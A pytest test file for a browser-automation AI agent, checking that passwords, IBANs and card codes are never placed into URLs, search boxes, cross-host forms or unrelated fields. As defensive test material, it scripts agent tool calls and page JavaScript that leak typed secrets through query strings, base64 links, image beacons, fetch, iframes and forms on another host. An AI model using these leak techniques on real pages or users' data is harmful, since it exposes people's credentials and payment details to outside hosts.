"""Values of the person's never leave by an address, a search box or free text, whoever decides (contract 7)."""

# ruff: noqa: E501 - the pages in here are kept whole

from __future__ import annotations

import base64
from typing import TYPE_CHECKING, Any
from urllib.parse import unquote, urljoin

import pytest
import pytest_asyncio
from tests.engine.goal_minds import Deed, Mind, click, fill
from tests.sites.forms import FormSite, page

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from tests.engine.goal_running import Custom
    from tests.sites.model_server import Asked, Turn

pytestmark = pytest.mark.browser

DATA = {"pw": "Tick-Tock-99", "iban": "DE89370400440532013000", "what": "kettle", "card": "GIFT-4929-8812"}
FIELDS = """<p>Welcome</p><form action=/found role=search><input type=search name=q aria-label=Search></form>
<label>Note <textarea name=note></textarea></label><label>Password <input type=password name=pw></label>
<label>IBAN <input name=iban></label><p id=said></p>
<script>addEventListener('input', (e) => { said.textContent += e.target.name + ' was written. ' })</script>"""


@pytest_asyncio.fixture
async def site() -> AsyncIterator[FormSite]:
    async with FormSite() as site:
        site.page("/log", page("Log", "<p>Welcome</p>"))
        yield site


@pytest.mark.parametrize(
    ("deed", "where"),
    [
        (("navigate", "", {"url": "{at}/log?pw={{{{pw}}}}"}), "an address"),
        (("navigate", "", {"url": "{at}/log?q={{{{iban}}}}"}), "an address"),
        (fill("Search", "{{pw}}"), "a search box"),
        (fill("Search", "{{iban}}"), "a search box"),
        (fill("Note", "My account is {{iban}}"), "free text"),
    ],
)
async def test_a_secret_is_refused_and_the_model_reads_why(custom: Custom, site: FormSite, deed: Deed, where: str):
    start = site.page("/in", page("In", FIELDS))
    tool, words, more = deed
    more = {k: v.format(at=start.removesuffix("/in")) if k == "url" else v for k, v in more.items()}
    mind, told = Mind([[(tool, words, more)]], "Welcome"), list[str]()

    def answers(asked: Asked) -> Turn:
        told.append(asked.text)
        return mind(asked)

    ran = await custom.run(start, "Write down {{pw}} and {{iban}}", answers, input=DATA, submit="submit")
    assert not [each for each in site.requests if "Tick" in str(each) or "DE89" in str(each)], ran
    assert any(f"it is not written into {where}" in text for text in told), told[-1]
    finished = [each for each in ran.events("step_finished") if each.outcome.ok]
    assert finished == []


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("field", "deed", "why"),
    [
        ("E-mail", "someone@else.example", "“E-mail” takes {{email}}: the goal gives nothing else for it."),
        ("Your name", "{{email}}", "it is not written into a field for another fact"),
    ],
)
async def test_a_model_enters_the_tasks_own_address_and_only_where_it_is_asked(
    custom: Custom, site: FormSite, field: str, deed: str, why: str
):
    start = site.page("/join", page("Join", f"<p>Welcome</p><label>{field} <input name=n></label>"))
    mind, told = Mind([[fill(field, deed)]], "Welcome"), list[str]()

    def answers(asked: Asked) -> Turn:
        told.append(asked.text)
        return mind(asked)

    ran = await custom.run(start, "Join the walk", answers, input={"email": "zed@example.org"}, submit="submit")
    assert [each for each in ran.events("step_finished") if each.outcome.ok] == [], ran
    assert any(why in text for text in told), told[-1]


LOGIN = "<p>Welcome</p><label>Password <input type=password name=pw></label>{}<p id=said></p>"
TYPED = fill("Password", "{{pw}}")
WAYS: dict[str, tuple[str, list[Deed]]] = {
    "a path": ("", [("navigate", "", {"url": "/log/{{pw}}"})]),
    "what follows a hash": ("", [("navigate", "", {"url": "/log#{{pw}}"})]),
    "an encoded template": ("", [("navigate", "", {"url": "/log?pw=%7B%7Bpw%7D%7D"})]),
    "a document of data": ("", [("navigate", "", {"url": "data:text/html,<img src={at}/log?q={{pw}}>"})]),
    "a value that only its way says to be secret": ("", [("navigate", "", {"url": "/log?q={{card}}"})]),
    "the same in a search box": (
        "<form action=/log role=search><input type=search name=q aria-label=Find></form>",
        [fill("Find", "{{card}}"), ("press", "Find", {"keys": "Enter"})],
    ),
    "an address of another host": ("", [("navigate", "", {"url": "{other}/log?q={{pw}}"})]),
    "a field that says search in itself": ("<input name=q placeholder='Search…'>", [fill("Search…", "{{pw}}")]),
    "a field without words": ("<input name=q aria-label=' '>", [fill("textbox", "{{pw}}")]),
    "a field that is asked for something else": ("<label>Name <input name=n></label>", [fill("Name", "{{iban}}")]),
    "keys for what has the focus": ("<input name=q autofocus>", [("type_text", "", {"value": "{{pw}}"})]),
    "a form that is sent by GET": (
        "<form action=/log method=get><label>IBAN <input name=i></label><button>Sign in</button></form>",
        [fill("IBAN", "{{iban}}"), click("Sign in")],
    ),
    "a form that does not say how it is sent": (
        "<form action=/log><label>IBAN <input name=i></label><button>Sign in</button></form>",
        [fill("IBAN", "{{iban}}"), click("Sign in")],
    ),
    "a form of another host": (
        "<form action={other}/log><label>IBAN <input name=i></label><button>Continue</button></form>",
        [fill("IBAN", "{{iban}}"), click("Continue")],
    ),
    "a link that is made of what was typed": (
        "<a id=l href=/x>More</a><script>addEventListener('input', (e) => { l.href = '/log?q=' + encodeURIComponent("
        "encodeURIComponent(e.target.value)) })</script>",
        [TYPED, click("More")],
    ),
    "a link in letters of their own": (
        "<a id=l href=/x>More</a><script>addEventListener('input', (e) => { l.href = '/log?q=' + btoa(e.target.value) })"
        "</script>",
        [TYPED, click("More")],
    ),
    "a window that is opened": (
        "<button onclick=\"window.open('/log?q=' + document.querySelector('input').value)\">More</button>", [TYPED, click("More")]
    ),
    "an image": ("<script>addEventListener('input', (e) => { new Image().src = '/log?q=' + e.target.value })</script>", [TYPED]),
    "suggestions": ("<script>addEventListener('input', (e) => { fetch('/log?q=' + e.target.value) })</script>", [TYPED]),
    "a frame": ("<iframe id=f></iframe><script>addEventListener('input', (e) => { f.src = '/log?q=' + e.target.value })</script>",
                [TYPED]),
    "a download": (
        "<button onclick=\"const a = document.createElement('a'); a.href = '/log?q=' + document.querySelector('input').value;"
        "a.download = 'x'; a.click()\">More</button>", [TYPED, click("More")],
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.sample(1)
async def test_no_way_leads_a_secret_into_an_address(custom: Custom, site: FormSite, way: str):
    html, deeds = WAYS[way]
    async with FormSite("localhost") as other:
        here, there = site.url, other.url
        other.page("/log", page("Log", "<p>Welcome</p>"))
        start = site.page("/in", page("In", LOGIN.format(html.replace("{at}", here).replace("{other}", there))))
        batches = [[(tool, words, _placed(more, here, there))] for tool, words, more in deeds]
        goal = f"Sign in with {{{{pw}}}} and {{{{iban}}}} at {there} too, and pay with {{{{card}}}}"
        more: dict[str, Any] = {"input": DATA, "secret": ["card"], "submit": "submit"}
        ran = await custom.run(start, goal, Mind(batches, "Welcome"), **more)
        addresses = [unquote(unquote(f"{each.path}?{each.query}")) for each in (*site.requests, *other.requests)]
    if deeds[0] is TYPED:
        assert ran.events("step_finished")[0].outcome.ok, ran
    secrets = (*DATA.values(), *(base64.b64encode(each.encode()).decode() for each in DATA.values()))
    assert not [each for each in addresses if any(secret in each for secret in secrets)]


def _placed(more: dict[str, str], here: str, there: str) -> dict[str, str]:
    url = {"url": urljoin(here, more["url"]).replace("{at}", here).replace("{other}", there)} if "url" in more else {}
    return {**more, **url}


@pytest.mark.thorough
async def test_a_known_way_puts_a_plain_fact_into_a_search_only_where_the_goal_names_it(custom: Custom, site: FormSite):
    start = site.page("/in", page("In", FIELDS))
    way = Mind([[fill("Search", "{{what}}")]], "q was written.")
    learned = await custom.run(start, "Look for {{what}} here", way, input=DATA, submit="submit")
    assert learned.status == "complete", learned
    book = await custom.book()
    await custom.books.remove(book.id)
    await custom.books.save(book.model_copy(update={"id": "other", "task_pattern": "Look around here", "revision": 1}))
    ran = await custom.run(start, "Look around here", input=DATA, submit="submit")
    entered = [each for each in ran.events("step_finished") if each.outcome.ok]
    assert entered == [], ran


@pytest.mark.thorough
async def test_a_secret_that_the_model_spells_itself_leaves_in_no_address(custom: Custom, site: FormSite):
    start = site.page("/in", page("In", FIELDS))
    spelled = base64.b64encode(DATA["card"].encode()).decode()
    way = Mind([[("navigate", "", {"url": f"/log?q={spelled}"})]], "Welcome")
    ran = await custom.run(start, "Pay with {{card}}", way, input=DATA, secret=["card"], reveal=["card"])
    assert [each.path for each in site.requests if each.path == "/log"] == [], ran


@pytest.mark.thorough
async def test_it_is_written_into_a_field_of_its_kind_and_the_goals_own_data_into_a_search(
    custom: Custom, site: FormSite
):
    start = site.page("/in", page("In", FIELDS))
    way = [[fill('"Password" password', "{{pw}}"), fill("IBAN", "{{iban}}"), fill("Search", "{{what}}")]]
    goal = "Sign in with {{pw}} and {{iban}}, and search for {{what}}"
    ran = await custom.run(start, goal, Mind(way, "q was written."), input=DATA, submit="submit")
    assert [each.outcome.ok for each in ran.events("step_finished")] == [True, True, True], ran
